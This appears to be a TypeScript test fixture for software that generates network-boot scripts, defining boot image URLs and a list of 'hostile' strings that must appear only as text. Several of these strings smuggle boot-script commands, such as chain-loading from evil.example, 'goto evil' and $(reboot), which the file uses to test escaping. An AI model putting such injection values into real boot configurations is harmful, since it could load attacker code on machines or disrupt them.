import type { BootContent } from '../../../src/boot/script.ts'

export const url = 'http://10.77.0.1:8080'
export const kernel = `${url}/assets/images/debian/linux`
export const first = `${url}/assets/images/debian/initrd.gz`
export const second = `${url}/assets/@0a1b2c3d4e5f/own%20files.img`
export const cmdline = `console=ttyS0 bootwright=${url}/phone-home/TOKEN BOOTIF=01-52-54-00-12-34-56`

export function boot(title: string, initrd: readonly string[], line = cmdline): BootContent {
  return { kind: 'boot', title, image: { kernel, initrd, cmdline: line } }
}

export const local: BootContent = {
  kind: 'local',
  reason: 'Disk: node1 is idle: no install was asked',
}

/** What must stay text on the screen, in whatever language. */
export const hostile = [
  'a\nchain http://evil.example/',
  'a\r\nsanboot',
  `the \${password} of \${netX/mac}`,
  'a || goto evil',
  'a && goto evil',
  'a ; goto evil',
  '# not a comment',
  'quoted "text" and `more`',
  "it's 'over'; reboot '",
  'back\\slash',
  'LABEL evil { } $(reboot)',
  'ünïcödé \u202e and \u0000 and \u001b[2J',
]
